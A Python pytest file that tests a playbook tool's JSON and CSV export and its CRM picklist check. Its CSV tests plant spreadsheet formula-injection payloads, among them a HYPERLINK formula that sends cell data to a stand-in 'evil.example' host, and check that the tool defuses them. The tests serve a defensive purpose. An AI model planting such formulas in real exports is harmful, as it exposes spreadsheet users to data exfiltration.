"""The export for the CRM and the CRM check, through the real `playbook` command: every entry and
every value of every YAML file in the JSON, the JSON valid against its schema, the CSV defused,
and the picklist's differences reported one line each."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import FIXTURES, REPO
from jsonschema import Draft202012Validator
from referencing import Registry, Resource

from generator.model.export import csv_files, export_json, schema_columns
from generator.site.static import SITE_CSV, SITE_JSON, export_files
from generator.source.document import Document
from generator.source.loader import KINDS, load_playbook

PLAYBOOK = str(Path(sys.executable).parent / "playbook")
SCHEMAS = REPO / "schemas"
EXPORT_SCHEMA = SCHEMAS / "output" / "export.schema.json"
KEYS = ["playbook", *KINDS]


def run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([PLAYBOOK, *args], cwd=cwd, capture_output=True, text=True, timeout=60)


def exported(tmp_path: Path, playbook: Path = REPO / "playbook") -> dict[str, Any]:
    """The JSON that `playbook export` writes for a playbook."""
    result = run("export", "--playbook", str(playbook), "out.json", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    data: dict[str, Any] = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
    return data


def mini(tmp_path: Path) -> Path:
    """A copy of the mini playbook in tmp_path/playbook."""
    shutil.copytree(FIXTURES / "mini", tmp_path / "playbook")
    return tmp_path / "playbook"


def documents(root: Path) -> Iterator[tuple[str, Document]]:
    """(export key, document) for every YAML file of a playbook."""
    loaded = load_playbook(root)
    assert not loaded.problems and loaded.settings is not None
    yield "playbook", loaded.settings
    for key, kind in KINDS.items():
        for doc in loaded.documents[kind]:
            yield key, doc


def entry(data: dict[str, Any], key: str, doc: Document) -> Any:
    """The export's entry for a document: playbook.yaml's section, or the entity with its id."""
    if key == "playbook":
        return data["playbook"]
    found = [item for item in data[key] if item["id"] == doc.data["id"]]
    assert len(found) == 1, f"{doc.display}: {len(found)} entries with its id in {key}"
    return found[0]


def leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    """(path, value) for every value that is not a non-empty list or mapping."""
    if isinstance(value, dict) and value:
        for key, item in value.items():
            yield from leaves(item, (*path, key))
    elif isinstance(value, list) and value:
        for i, item in enumerate(value):
            yield from leaves(item, (*path, i))
    else:
        yield path, value


def at(value: Any, path: tuple[Any, ...]) -> Any:
    for part in path:
        value = value[part]
    return value


# The JSON ----------------------------------------------------------------------------------------


def test_export_of_default_playbook_matches_its_schema(tmp_path: Path) -> None:
    data = exported(tmp_path)
    schema = json.loads(EXPORT_SCHEMA.read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(schema)
    # The schemas name each other by relative paths, resolved from where each file is.
    registry: Registry[Any] = Registry().with_resources(
        (path.as_uri(), Resource.from_contents(json.loads(path.read_text(encoding="utf-8"))))
        for path in sorted(SCHEMAS.glob("*.schema.json")))
    checker = Draft202012Validator({**schema, "$id": EXPORT_SCHEMA.as_uri()}, registry=registry,
                                   format_checker=Draft202012Validator.FORMAT_CHECKER)
    assert not [error.message for error in checker.iter_errors(data)]
    bad = dict(data, stages=[dict(data["stages"][0], colour="red")])
    assert list(checker.iter_errors(bad)), "the kind schemas are not applied to the entries"


def test_export_schema_is_closed_and_described() -> None:
    schema = json.loads(EXPORT_SCHEMA.read_text(encoding="utf-8"))
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert list(schema["properties"]) == ["format", *KEYS, "crm"] == schema["required"]
    objects = [schema, schema["properties"]["crm"]["items"]]
    for obj in objects:
        assert obj["additionalProperties"] is False
        assert all(prop.get("description") for prop in obj["properties"].values())
    for key in KINDS:
        kind = KINDS[key]
        assert schema["properties"][key]["items"]["$ref"] == f"../{kind}.schema.json"


def test_every_entry_of_every_kind_is_exported_in_order(tmp_path: Path) -> None:
    data = exported(tmp_path)
    for key in KINDS:
        files = sorted(path.stem for path in (REPO / "playbook" / key).glob("*.yaml"))
        assert sorted(item["id"] for item in data[key]) == files, key
    for key in ("stages", "lifecycle"):
        assert [item["order"] for item in data[key]] == sorted(item["order"] for item in data[key])
    for key in ("handoffs", "terms", "personas", "assets", "metrics"):
        assert [item["id"] for item in data[key]] == sorted(item["id"] for item in data[key])
    assert data["format"] == 1
    assert data["crm"] == [dict(state["crm"], value=value, state=state["id"]) for state in data["lifecycle"]
                           for value in [c["value"] for c in state.get("crm_stages", ())] or [state["crm"]["value"]]]
    opportunity = [row["value"] for row in data["crm"] if row["state"] == "opportunity"]
    assert opportunity == ["1-Discovery", "2-Scoping", "3-Evaluation", "4-Proposal", "5-Negotiation"]


@pytest.mark.parametrize("playbook", [REPO / "playbook", FIXTURES / "mini"], ids=["default", "mini"])
def test_every_yaml_value_is_in_the_json_at_its_place(tmp_path: Path, playbook: Path) -> None:
    data = exported(tmp_path, playbook)
    checked = 0
    for key, doc in documents(playbook):
        exported_entry = entry(data, key, doc)
        for path, value in leaves(doc.data):
            found = at(exported_entry, path)
            assert found == value and type(found) is type(value), f"{doc.display}: {path}"
            checked += 1
        assert exported_entry == doc.data, f"{doc.display}: the export holds more than the file"
    assert checked > (1000 if playbook.name == "playbook" else 100)


def test_dates_stay_as_written(tmp_path: Path) -> None:
    data = exported(tmp_path)
    assert data["playbook"]["updated"] == "2026-12-06"
    assert all(isinstance(state["agreed_by"]["date"], str) for state in data["lifecycle"])


def test_standard_output_is_the_same_json(tmp_path: Path) -> None:
    exported(tmp_path)
    result = run("export", "--playbook", str(REPO / "playbook"), "-", cwd=tmp_path)
    assert result.returncode == 0 and result.stderr == ""
    assert result.stdout == (tmp_path / "out.json").read_text(encoding="utf-8")


def test_export_json_and_files_for_the_site() -> None:
    loaded = load_playbook(REPO / "playbook")
    data = export_json(loaded)
    data["stages"][0]["name"] = "changed"
    assert export_json(loaded)["stages"][0]["name"] != "changed", "export_json must return a copy"
    files = export_files(REPO / "playbook")
    assert set(files) == {SITE_JSON} | {f"{SITE_CSV}/{key}.csv" for key in [*KEYS, "crm"]} | {
        f"schemas/{path.relative_to(SCHEMAS).as_posix()}" for path in SCHEMAS.rglob("*.schema.json")}
    assert json.loads(files[SITE_JSON]) == export_json(REPO / "playbook")


# The CSV -----------------------------------------------------------------------------------------

HOSTILE = {
    ("assets/guide.yaml", "title"): '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    ("playbook.yaml", "site_name"): "+1+1",
    ("terms/contact.yaml", "definition"): "-2+3 people",
    ("metrics/win-rate.yaml", "formula"): "@SUM(A1:A9)",
}


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_csv_has_one_row_per_entry_and_defuses_formulas(tmp_path: Path) -> None:
    root = mini(tmp_path)
    for (name, field), value in HOSTILE.items():
        path = root / name
        lines = [f"{field}: {json.dumps(value)}" if line.startswith(f"{field}:") else line
                 for line in path.read_text(encoding="utf-8").splitlines()]
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = run("export", "--format", "csv", "out", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("playbook exported to out as csv: 2 stages,")
    out = tmp_path / "out"
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{key}.csv" for key in [*KEYS, "crm"])
    for key in KINDS:
        rows = read_csv(out / f"{key}.csv")
        assert sorted(row["id"] for row in rows) == sorted(p.stem for p in (root / key).glob("*.yaml"))
        assert list(rows[0]) == list(schema_columns(KINDS[key]))
    assert len(read_csv(out / "playbook.csv")) == 1
    assert read_csv(out / "assets.csv")[0]["title"] == "'" + HOSTILE[("assets/guide.yaml", "title")]
    assert read_csv(out / "playbook.csv")[0]["site_name"] == "'+1+1"
    assert {row["id"]: row["definition"] for row in read_csv(out / "terms.csv")}["contact"] == "'-2+3 people"
    assert read_csv(out / "metrics.csv")[0]["formula"] == "'@SUM(A1:A9)"
    for path in out.iterdir():
        text = path.read_text(encoding="utf-8")
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], path.name
        assert all(line.startswith('"') for line in text.splitlines() if line), "every cell is quoted"


def test_csv_flattens_nested_fields_and_lists(tmp_path: Path) -> None:
    mini(tmp_path)
    assert run("export", "--format", "csv", "out", cwd=tmp_path).returncode == 0
    handoff = read_csv(tmp_path / "out" / "handoffs.csv")[0]
    assert handoff["service_level.within"] == "4"
    assert handoff["rejection_reasons.reason"] == "Not ready to buy."
    assert handoff["rejection_reasons.goes_to"] == "lead"
    assert handoff["agreed_by.date"] == "2026-01-15"
    asset = read_csv(tmp_path / "out" / "assets.csv")[0]
    assert asset["stages"] == "learning | adoption"
    assert asset["priority"] == asset["expires"] == ""
    assert read_csv(tmp_path / "out" / "crm.csv") == [
        {"object": "Lead", "field": "Lead Status", "value": "Lead", "state": "lead"},
        {"object": "Opportunity", "field": "Stage", "value": "Closed Won", "state": "won"}]


# What a spreadsheet may skip before a formula: spaces, invisible (format) characters, line breaks.
# A tab, a carriage return and the line and paragraph separators are refused by validation (see
# test_what_validation_refuses_is_defused_too); the rest reach the export.
SKIPPED = {"nothing": "", "space": " ", "no-break space": "\u00a0", "ideographic space": "\u3000",
           "byte order mark": "\ufeff", "zero-width space": "\u200b", "word joiner": "\u2060",
           "soft hyphen": "\u00ad", "line feed": "\n", "several": " \u200b\u00a0\ufeff"}
FORMULA_CHARACTERS = "=+-@\uff1d\uff0b\uff0d\uff20"  # ASCII, then full-width
# Cells that start with none of them, once the unseen characters are skipped, or are only a number.
HARMLESS = ["Anvil buyer's guide", "Revenue = price + volume - costs", "x=1", "'quoted already",
            "1-2 weeks", "\u200bWord after a zero-width space", " Leading space, then words",
            "Total \uff1d sum", "(-) minus sign", "Minus: -5"]


def planted_assets(root: Path, titles: dict[str, str]) -> None:
    """One asset per title, copied from the fixture's guide, the title written as JSON (quoted)."""
    guide = (root / "assets" / "guide.yaml").read_text(encoding="utf-8")
    for asset_id, title in titles.items():
        lines = [f"title: {json.dumps(title)}" if line.startswith("title:") else line
                 for line in guide.replace("id: guide", f"id: {asset_id}").splitlines()]
        (root / "assets" / f"{asset_id}.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")


def test_csv_defuses_formulas_behind_spaces_invisible_and_full_width_characters(tmp_path: Path) -> None:
    root = mini(tmp_path)
    hostile = {f"f{i}-{j}": skipped + char + "1+1" for i, skipped in enumerate(SKIPPED.values())
               for j, char in enumerate(FORMULA_CHARACTERS)}
    harmless = {f"h{i}": title for i, title in enumerate(HARMLESS)}
    planted_assets(root, {**hostile, **harmless})
    metric = root / "metrics" / "win-rate.yaml"
    metric.write_text(metric.read_text(encoding="utf-8").replace("value: 25", "value: -5")
                      + "baseline:\n  value: -12.5\n  as_of: Q2 2026\n", encoding="utf-8")
    result = run("export", "--format", "csv", "out", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    titles = {row["id"]: row["title"] for row in read_csv(tmp_path / "out" / "assets.csv")}
    for asset_id, title in hostile.items():
        assert titles[asset_id] == "'" + title, (asset_id, title)
    for asset_id, title in harmless.items():
        assert titles[asset_id] == title, (asset_id, title)
    goal = read_csv(tmp_path / "out" / "metrics.csv")[0]
    assert (goal["target.value"], goal["baseline.value"]) == ("-5", "-12.5")  # numbers stay numbers
    # The JSON is the exact copy: no apostrophe there.
    assert run("export", "out.json", cwd=tmp_path).returncode == 0
    data = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
    assert {a["id"]: a["title"] for a in data["assets"]} == {"guide": "Anvil buyer's guide", **hostile, **harmless}


@pytest.mark.parametrize("refused", ["\t", "\r", "\u2028", "\u2029"])
def test_what_validation_refuses_is_defused_too(tmp_path: Path, refused: str) -> None:
    """A tab, a carriage return or a separator never passes the checks, so never reaches a CSV
    through `playbook export`; were it to, the cell would still be defused, whatever follows it."""
    root = mini(tmp_path)
    planted_assets(root, {"tabbed": refused + "=1+1"})
    result = run("export", "--format", "csv", "out", cwd=tmp_path)
    assert result.returncode == 1 and "playbook/assets/tabbed.yaml:3:8: title: " in result.stderr
    assert not (tmp_path / "out").exists()
    data = export_json(FIXTURES / "mini")
    cells = {f"{refused}{char}1": "'" + f"{refused}{char}1" for char in FORMULA_CHARACTERS}
    cells[refused + "plain words"] = "'" + refused + "plain words" if refused in "\t\r" else refused + "plain words"
    data["assets"] = [dict(data["assets"][0], id=f"a{i}", title=title) for i, title in enumerate(cells)]
    rows = list(csv.DictReader(io.StringIO(csv_files(data)["assets.csv"], newline="")))
    assert [row["title"] for row in rows] == list(cells.values())


# Where the export goes ---------------------------------------------------------------------------


def test_a_playbook_with_problems_writes_nothing(tmp_path: Path) -> None:
    root = mini(tmp_path)
    path = root / "stages" / "learning.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("order: 1", "order: first"), encoding="utf-8")
    result = run("export", "out.json", cwd=tmp_path)
    assert result.returncode == 1 and result.stdout == ""
    assert result.stderr == ("playbook/stages/learning.yaml:3:8: order: must be a whole number, not 'first' "
                             "[wrong-type]\n"
                             "1 problem found; fix them and run again.\n")
    assert not (tmp_path / "out.json").exists()


@pytest.mark.parametrize(("args", "message"), [
    (["--format", "csv", "-"], "-: CSV is written as one file per kind: name a folder to write them into"),
    (["link.json"], "link.json: is a link; name a file that is not a link"),
    (["--format", "csv", "linked"], "linked: is a link; name a folder that is not a link"),
    (["playbook/out.json"], "playbook/out.json: is inside the playbook folder playbook, which would then fail its "
                            "checks; write the export elsewhere"),
    (["folder"], "folder: is a folder; name a file such as playbook.json (a folder takes --format csv)"),
    (["--format", "csv", "kept.json"], "kept.json: is a file; name a folder for the CSV files"),
    (["nowhere/out.json"], "nowhere/out.json: the folder nowhere does not exist; make it or name another"),
    (["--format", "csv", "folder"], "folder/stages.csv: is a link; remove it or write the export elsewhere"),
])
def test_refused_targets_are_one_line_and_left_alone(tmp_path: Path, args: list[str], message: str) -> None:
    mini(tmp_path)
    (tmp_path / "kept.json").write_text("old", encoding="utf-8")
    (tmp_path / "link.json").symlink_to(tmp_path / "kept.json")
    (tmp_path / "folder").mkdir()
    (tmp_path / "linked").symlink_to(tmp_path / "folder")
    (tmp_path / "folder" / "stages.csv").symlink_to(tmp_path / "kept.json")
    result = run("export", *args, cwd=tmp_path)
    assert (result.returncode, result.stdout, result.stderr) == (1, "", message + "\n")
    assert (tmp_path / "kept.json").read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in (tmp_path / "folder").iterdir()) == ["stages.csv"]
    assert not list(tmp_path.glob(".*.tmp")) and not list((tmp_path / "folder").glob(".*"))


def test_export_replaces_the_old_file_whole(tmp_path: Path) -> None:
    mini(tmp_path)
    (tmp_path / "out.json").write_text("old", encoding="utf-8")
    os.chmod(tmp_path / "out.json", 0o600)
    assert run("export", "out.json", cwd=tmp_path).returncode == 0
    assert json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))["format"] == 1
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


# The CRM check -----------------------------------------------------------------------------------


def check_picklist(tmp_path: Path, text: str | bytes) -> subprocess.CompletedProcess[str]:
    if not (tmp_path / "playbook").exists():
        mini(tmp_path)
    path = tmp_path / "picklist.csv"
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return run("crm-check", "picklist.csv", cwd=tmp_path)


def test_crm_check_reports_missing_extra_and_inactive_values(tmp_path: Path) -> None:
    result = check_picklist(tmp_path, "Object,Field,Value,Label,Active\n"
                                      "Lead,Lead Status,New,New,true\n"
                                      "Opportunity,Stage,Closed Won,Closed Won,false\n"
                                      "Account,Industry,Banking,Banking,true\n"
                                      "Opportunity,Stage,Closed Lost,Closed Lost,no\n"
                                      "\n"
                                      "Lead,Lead Status,Leads,Leads,1\n")
    assert result.stdout == (
        "picklist.csv:2: 'New' (Lead / Lead Status) is a value in the CRM that no lifecycle state has: add a "
        "state for it to the playbook, or retire it in the CRM\n"
        "picklist.csv:3: 'Closed Won' (Opportunity / Stage) is inactive in the CRM, but the lifecycle state 'won' "
        "uses it: activate it in the CRM, or change that state's crm.value\n"
        "picklist.csv:7: 'Leads' (Lead / Lead Status) is a value in the CRM that no lifecycle state has: "
        "add a state for it to the playbook, or retire it in the CRM\n"
        "playbook/lifecycle/lead.yaml:16:10: crm.value: 'Lead' is not in the picklist for Lead / Lead Status "
        "(did you mean 'Leads'?): add it to the CRM, or correct the value here\n")
    assert result.stderr == "4 differences between playbook and picklist.csv; fix them and run again.\n"
    assert result.returncode == 1


def test_crm_check_names_a_field_the_picklist_lacks(tmp_path: Path) -> None:
    result = check_picklist(tmp_path, "object,field,value\nLead,Lead Status,Lead\n")
    assert result.stdout == (
        "playbook/lifecycle/won.yaml:16:10: crm.value: 'Closed Won' is not in the picklist: picklist.csv has no "
        "values for Opportunity / Stage; export that field's values too, or correct crm.object and crm.field\n")
    assert result.returncode == 1


def test_crm_check_passes_on_a_matching_picklist(tmp_path: Path) -> None:
    result = check_picklist(tmp_path, "\ufeffvalue,label,object,field,active\n"
                                      "Lead,Lead,lead,LEAD STATUS,TRUE\n"
                                      "Closed Won,Won,Opportunity,Stage,yes\n"
                                      "Closed Lost,Lost,Opportunity,Stage,false\n"
                                      "Banking,Banking,Account,Industry,true\n")
    assert (result.returncode, result.stderr) == (0, "")
    assert result.stdout == ("picklist.csv matches playbook: 2 lifecycle states, 2 CRM fields, no value missing, "
                             "extra or inactive.\n")


def test_crm_check_passes_on_the_exported_crm_csv(tmp_path: Path) -> None:
    result = run("export", "--playbook", str(REPO / "playbook"), "--format", "csv", "out", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    result = run("crm-check", "--playbook", str(REPO / "playbook"), "out/crm.csv", cwd=tmp_path)
    assert result.returncode == 0, result.stdout
    assert result.stdout.startswith("out/crm.csv matches ")


def test_crm_check_reads_the_crm_stages_of_a_state_in_place_of_its_value(tmp_path: Path) -> None:
    """The default opportunity state lists its CRM stages: each one is a picklist value, located at
    its place in the file; crm.value, which says "any open stage", is not one."""
    shutil.copytree(REPO / "playbook", tmp_path / "playbook")
    result = run("export", "--format", "csv", "out", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    picklist = (tmp_path / "out" / "crm.csv").read_text(encoding="utf-8")
    assert '"Opportunity","Stage","3-Evaluation","opportunity"' in picklist
    assert "Any open stage" not in picklist
    (tmp_path / "out" / "crm.csv").write_text(picklist.replace('"3-Evaluation"', '"3-Evaluate"'), encoding="utf-8")
    result = run("crm-check", "out/crm.csv", cwd=tmp_path)
    assert result.returncode == 1
    line = next(n for n, text in enumerate((REPO / "playbook/lifecycle/opportunity.yaml").read_text(
        encoding="utf-8").splitlines(), start=1) if "value: 3-Evaluation" in text)
    assert result.stdout.splitlines() == [
        "out/crm.csv:8: '3-Evaluate' (Opportunity / Stage) is a value in the CRM that no lifecycle state has: "
        "add a state for it to the playbook, or retire it in the CRM",
        f"playbook/lifecycle/opportunity.yaml:{line}:12: crm_stages[2].value: '3-Evaluation' is not in the "
        "picklist for Opportunity / Stage (did you mean '3-Evaluate'?): add it to the CRM, or correct the value here"]


@pytest.mark.parametrize(("text", "message"), [
    ("", "picklist.csv: is empty: export the picklist with a header row object,field,value"),
    ("object,field,label\nLead,Lead Status,Lead\n",
     "picklist.csv:1: the header row has no 'value' column: the first row names the columns, at least "
     "object,field,value"),
    ("object;field;value\nLead;Lead Status;Lead\n",
     "picklist.csv:1: the columns are not separated by commas: export the picklist as comma-separated CSV"),
    ("object,field,value,Value\n", "picklist.csv:1: the header row names the column 'value' more than once; keep one"),
    (b"object,field,value\nLead,Lead Status,Lead\nLead,Lead Status,\xe9t\xe9\n",
     "picklist.csv:3: not UTF-8 text: export the picklist as UTF-8 CSV"),
    ('object,field,value\nLead,Lead Status,Lead\n"Lead,Lead Status\n',
     "picklist.csv:3: not readable as CSV (unexpected end of data): export the picklist again as CSV"),
    (b"object,field,value\n" + b"Lead,Lead Status,x\n" * 300_000,
     "picklist.csv: is larger than 5,000,000 bytes, too large for a picklist: export only the picklist fields"),
])
def test_bad_picklist_is_one_line(tmp_path: Path, text: str | bytes, message: str) -> None:
    result = check_picklist(tmp_path, text)
    assert (result.returncode, result.stdout, result.stderr) == (1, "", message + "\n")


def test_bad_rows_are_reported_where_they_are(tmp_path: Path) -> None:
    result = check_picklist(tmp_path, "object,field,value,active\n"
                                      "Lead,Lead Status,Lead,true\n"
                                      "Opportunity,Stage,Closed Won\n"
                                      ",Stage,Closed Lost,true\n"
                                      "Lead,Lead Status,Lead,maybe\n")
    assert result.stdout == ("picklist.csv:4: the row has no object: fill in object, field and value, or remove "
                             "the row\n"
                             "picklist.csv:5: active is 'maybe': write true or false\n")
    assert result.returncode == 1


def test_missing_picklist_is_one_line(tmp_path: Path) -> None:
    mini(tmp_path)
    result = run("crm-check", "nowhere.csv", cwd=tmp_path)
    assert (result.returncode, result.stdout) == (1, "")
    assert result.stderr == ("nowhere.csv: cannot be read (No such file or directory): give the picklist CSV "
                             "exported from the CRM\n")


def test_the_site_offers_the_export(build_site: Any) -> None:
    """The built site publishes the export beside its pages, and the home page links to it."""
    site = build_site()
    published = json.loads((site / "downloads" / "playbook.json").read_text(encoding="utf-8"))
    assert published == export_json(FIXTURES / "mini")
    assert (site / "downloads" / "playbook-csv" / "crm.csv").read_text(encoding="utf-8").startswith('"object"')
    home = (site / "index.html").read_text(encoding="utf-8")
    assert 'href="downloads/playbook.json"' in home and 'href="downloads/playbook-csv/crm.csv"' in home


def test_computed_values_and_their_conditions_are_exported_as_written(tmp_path: Path) -> None:
    values = {v["id"]: v for v in exported(tmp_path)["playbook"]["values"]}
    assert values["pipeline-target"]["compute"] == {"multiply": ["bookings-target", "pipeline-coverage"]}
    assert values["speed-to-lead-target"]["compute"] == {"convert": "mql-first-touch", "to": "hours"}
    assert values["example-lead-score"]["compute"] == {"add": ["example-fit-score", "example-engagement-score"]}
    assert values["example-lead-score"]["holds"] == {"at_least": "mql-threshold"}
    # A computed value has no `value` of its own in the export: what it shows is computed from the others.
    assert "value" not in values["example-lead-score"] and "value" not in values["pipeline-target"]
